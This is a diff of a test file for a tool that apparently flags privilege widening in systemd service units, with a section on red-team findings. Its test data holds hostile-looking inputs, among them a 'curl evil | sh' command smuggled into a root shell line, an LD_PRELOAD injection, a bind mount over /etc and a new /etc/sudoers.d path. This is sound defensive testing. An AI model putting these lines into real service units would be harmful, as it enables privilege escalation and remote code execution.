@@ -141,10 +141,16 @@ describe('elevated commands', () => {
     )
   })
 
-  it('the same privileged program with other arguments is no new privilege; another program, or a shell with another script, is', () => {
-    const base = svc(`${user}ExecStartPre=+/usr/bin/mkdir -p /run/a\nExecStartPost=+/bin/sh -c "chown app /run/a"\n`)
-    const same = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/run/a\n', '/run/a /run/b\n') })
+  it('the same privileged program with other flags is the same command; a new path, another program, or a shell with another script is new', () => {
+    const base = svc(`${user}ExecStartPre=+/usr/bin/mkdir -p /run/a\nExecStartPost=+/bin/sh -c "chown app /run/a"\nExecReload=+/bin/kill -HUP $MAINPID\n`)
+    const flags = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('mkdir -p', 'mkdir -p -m 0750').replace('-HUP', '-USR1') })
+    expect(flags.verdict).toBe('pass')
+    // Merged /usr and re-wrapping a shell command over a continuation change nothing.
+    const same = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/bin/kill', '/usr/bin/kill').replace('"chown app /run/a"', '"chown app \\\n   /run/a"') })
     expect(same.verdict).toBe('pass')
+    const path = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/run/a\n', '/run/a /etc/sudoers.d\n') })
+    expect(findings(unit(path, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
+    expect(unit(path, 'a.service').capabilities.widened[0]!.cause).toMatch(/command line of a privileged command changed/)
     const other = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/usr/bin/mkdir -p', '/usr/bin/install -d') })
     expect(findings(unit(other, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
     const script = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('chown app', 'curl evil | sh; chown app') })
@@ -181,7 +187,7 @@ describe('new units and acceptance', () => {
     const r = pr(
       { 'README.md': 'x\n' },
       {
-        'u/root.service': `# systemd-exposure: allow ALL -- the init helper must run as root\n${svc('')}`,
+        'u/root.service': `[Unit]\nDescription=t\n\n[Service]\n# systemd-exposure: allow ALL -- the init helper must run as root\nExecStart=/usr/bin/daemon\n`,
         'u/part.service': `# systemd-exposure: allow CAP_NET_RAW -- ping\n${svc('User=app\nNoNewPrivileges=yes\nAmbientCapabilities=CAP_NET_RAW CAP_NET_ADMIN\n')}`,
       },
     )
@@ -197,5 +203,78 @@ describe('new units and acceptance', () => {
     expect(pr(base, head, '252', [{ unit: 'app@.service', capability: 'CAP_KILL' }]).verdict).toBe('pass')
     expect(pr(base, head, '252', [{ unit: 'app@i.service', capability: 'CAP_KILL' }]).verdict).toBe('pass')
     expect(pr(base, head, '252', [{ unit: 'other.service', capability: 'CAP_KILL' }]).verdict).toBe('fail')
+  })
+})
+
+/** Red-team findings (docs/security.md): each test fails on the model before its fix. */
+describe('what the red team found in the model', () => {
+  const user = 'User=app\nNoNewPrivileges=yes\n'
+
+  it('allowing every namespace type but time restricts nothing: it forces no NoNewPrivileges= on 252/254 (B11)', () => {
+    const base = { 'u/a.service': svc(user) }
+    for (const line of ['RestrictNamespaces=cgroup ipc mnt net pid user uts', 'RestrictNamespaces=~time']) {
+      const r = pr(base, { 'u/a.service': svc(`User=app\n${line}\n`) }, '252')
+      expect(findings(unit(r, 'a.service')), line).toEqual(['reachable 41caps @u/a.service:7'])
+    }
+  })
+
+  it('removing PrivateUsers= from a root service: its capabilities now count on the host (B14)', () => {
+    const r = pr({ 'u/a.service': svc('PrivateUsers=yes\n') }, { 'u/a.service': svc('') })
+    expect(unit(r, 'a.service').capabilities.before).toMatchObject({ root: true, held: [], reachable: [] })
+    expect(findings(unit(r, 'a.service'))).toEqual(['held 41caps @u/a.service:6'])
+    expect(unit(r, 'a.service').capabilities.widened[0]!.cause).toMatch(/PrivateUsers= is gone/)
+  })
+
+  it('a new + command escapes the sandbox even of a root service with its full bounding set (B15)', () => {
+    const sandboxed = svc('ProtectSystem=strict\nSystemCallFilter=~@mount\n')
+    const r = pr({ 'u/a.service': sandboxed }, { 'u/a.service': `${sandboxed}ExecStartPre=+/bin/sh -c "mount --bind /var/lib/a /etc"\n` })
+    expect(findings(unit(r, 'a.service'))).toEqual(['command  @u/a.service:8'])
+    expect(r.failures[0]!.message).toMatch(/with full privileges \(\+ prefix\): outside the sandbox/)
+    // A root unit without any sandbox gains nothing from a +.
+    expect(pr({ 'u/b.service': svc('') }, { 'u/b.service': svc('ExecStartPre=+/usr/bin/true\n') }).verdict).toBe('pass')
+  })
+
+  it('LD_PRELOAD, PATH or a search path added for privileged commands is a widening; other environment is not (B17)', () => {
+    const base = svc(`${user}ExecReload=+/bin/kill -HUP $MAINPID\n`)
+    const preload = pr({ 'u/a.service': base }, { 'u/a.service': `${base}Environment=LD_PRELOAD=/var/lib/app/x.so\n` })
+    expect(findings(unit(preload, 'a.service'))).toEqual(['command  @u/a.service:9'])
+    expect(preload.failures[0]!.message).toMatch(/changes what its privileged commands \(ExecReload=\+\/bin\/kill -HUP \$MAINPID\) load and run: Environment= sets LD_PRELOAD/)
+    const search = pr({ 'u/a.service': base }, { 'u/a.service': `${base}ExecSearchPath=/var/lib/app/bin\n` })
+    expect(search.verdict).toBe('fail')
+    const harmless = pr({ 'u/a.service': base }, { 'u/a.service': `${base}Environment=LOG_LEVEL=debug\n` })
+    expect(harmless.verdict).toBe('pass')
+    // Without privileged commands the environment is the daemon's own business.
+    expect(pr({ 'u/b.service': svc(user) }, { 'u/b.service': svc(`${user}Environment=LD_PRELOAD=/x.so\n`) }).verdict).toBe('pass')
+  })
+
+  it('an old allow ALL accepts only what the line below it causes, not a later widening elsewhere (B18)', () => {
+    const base = svc(`${user}CapabilityBoundingSet=\n# systemd-exposure: allow ALL -- the disk-setup helper must run as root\nExecStartPre=+/usr/lib/app/disk-setup\n`)
+    const r = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=\n', '') })
+    expect(r.verdict).toBe('fail')
+    expect(unit(r, 'a.service').capabilities.widened[0]).toMatchObject({ level: 'held', accepted: [] })
+    // …while the helper it was written for stays accepted when it is added.
+    const added = pr({ 'u/a.service': svc(user) }, { 'u/a.service': base })
+    expect(added.verdict).toBe('pass')
+    expect(unit(added, 'a.service').capabilities.widened[0]!.accepted.map((x) => x.privilege)).toContain('root')
+  })
+
+  it('SystemCallLog= is a seccomp filter too; no-setuid-fixup does not keep CAP_SYS_ADMIN on 252/254 (F3, F4)', () => {
+    const logged = pr({ 'u/a.service': svc('User=app\nSystemCallFilter=~@mount\nSystemCallLog=@privileged\n') }, { 'u/a.service': svc('User=app\nSystemCallLog=@privileged\n') }, '252')
+    expect(logged.verdict).toBe('pass')
+    const fixup = pr({ 'u/a.service': svc('User=app\nLockPersonality=yes\n') }, { 'u/a.service': svc('User=app\nLockPersonality=yes\nSecureBits=no-setuid-fixup\n') }, '252')
+    expect(fixup.verdict).toBe('pass')
+  })
+
+  it('a unit this tool refuses is still judged, as far as it loads, in case systemd accepts it (B1 class, F5)', () => {
+    // Type=oneshot with Restart=always is refused by systemd (and by this tool) — the gate still
+    // looks at what the unit would hold if it were not refused, and says so.
+    const refused = svc('User=app\nNoNewPrivileges=yes\n').replace('[Service]\n', '[Service]\nType=oneshot\nRestart=always\n')
+    const r = pr({ 'u/a.service': svc('User=app\nNoNewPrivileges=yes\n') }, { 'u/a.service': refused.replace('User=app\n', '') })
+    expect(unit(r, 'a.service').errors.after).toMatch(/Restart= set to either always or on-success/)
+    expect(findings(unit(r, 'a.service'))).toEqual(['held root 41caps @u/a.service:6'])
+    expect(unit(r, 'a.service').capabilities.widened[0]!.what).toMatch(/\(if systemd reads on where this tool stops/)
+    // A base refused the same way is a baseline all the same: editing another line adds nothing.
+    const both = pr({ 'u/b.service': refused }, { 'u/b.service': refused.replace('Description=t', 'Description=b') })
+    expect(both.verdict).toBe('pass')
   })
 })
